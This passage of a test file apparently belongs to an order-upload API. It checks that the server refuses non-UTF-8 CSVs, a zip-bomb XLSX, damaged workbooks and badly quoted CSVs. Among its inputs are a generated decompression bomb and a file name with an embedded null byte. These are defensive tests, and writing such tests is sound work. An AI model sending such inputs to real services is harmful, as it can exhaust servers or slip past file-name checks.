    const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
    expect(dry.status).toBe(200);
    expect(dry.body.errors).toEqual(expected);
    const real = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
    expect(real.status).toBe(200);
    expect(real.body.upload).toMatchObject({ created_count: 1, rejected_count: 2 });
    expect(real.body.errors).toEqual(expected);

    // A file that is not UTF-8 throughout (Windows-1252, as Excel's plain "CSV" saves it) is refused whole.
    const latin1 = Buffer.from(csvOf([row('N-4')], ['Straße', ...HEADERS.slice(1)]), 'latin1');
    const refused = await upload(platform, merchant.token, {
      content: latin1,
      name: 'bestellingen.csv\u0000',
    });
    expect(refused.status).toBe(422);
    expect(refused.body.errors).toEqual([expect.objectContaining({ field: 'file', code: 'not_utf8' })]);
    expect(refused.body.detail).toContain('save it as CSV UTF-8');
  });

  it('refuses a zip-bomb XLSX and a damaged one with a problem naming the file and the limit, keeping nothing', async () => {
    const merchant = await createTestMerchant(platform);
    const bomb = await hostileXlsx({ sharedStringsBytes: 40 * 1_048_576 });
    expect(bomb.length).toBeLessThan(1_048_576);
    const res = await fetch(`${platform.baseUrl}/api/orders/upload`, {
      method: 'POST',
      headers: { authorization: `Bearer ${merchant.token}` },
      body: (() => {
        const form = new FormData();
        form.append('file', new Blob([bomb]), 'bomb.xlsx');
        return form;
      })(),
    });
    expect(res.status).toBe(422);
    expect(res.headers.get('content-type')).toContain('application/problem+json');
    const problem = (await res.json()) as { detail: string; errors: unknown[] };
    expect(problem.detail).toBe(
      'bomb.xlsx is refused: its part xl/sharedStrings.xml unpacks to more than 32 MiB, the limit for the shared text of an XLSX upload. Save the sheet again from your spreadsheet program, or upload it as CSV.',
    );
    expect(problem.errors).toEqual([
      expect.objectContaining({ field: 'file', code: 'xlsx_unpacks_too_large' }),
    ]);

    // Damaged inside the zip (the sheet's packed bytes), and well packed but not XML (exceljs' parser fails).
    const parts = [
      ...workbookParts(
        '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></rox></sheetData></worksheet>',
      ),
      packPart('xl/sharedStrings.xml', '<sst><si><t>merchant_reference</t></si></sst>'),
    ];
    const flipped = zipOf(
      parts.map((p) =>
        p.name.endsWith('.rels') ? { ...p, packed: Buffer.from(p.packed.map((b) => 255 - b)) } : p,
      ),
    );
    for (const broken of [flipped, zipOf(parts)]) {
      const damaged = await upload(platform, merchant.token, { content: broken, name: 'kapot.xlsx' });
      expect(damaged.status).toBe(422);
      expect(damaged.body.detail).toBe(
        'kapot.xlsx is refused: it is not a readable XLSX workbook (the file is damaged, or not an Excel file). Save the sheet again from your spreadsheet program, or upload it as CSV.',
      );
    }
    const badQuotes = `${HEADERS.join(';')}\nQ-1;"Anna" de Vries;anna@example.nl\n`;
    const csv = await upload(platform, merchant.token, { content: badQuotes, name: 'quotes.csv' });
    expect(csv.status).toBe(422);
    expect(csv.body.detail).toBe(
      'quotes.csv is refused: it is not a readable CSV file near line 2 (check the quotes around cells).',
    );
    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 0, parked: 0 });
  });
});
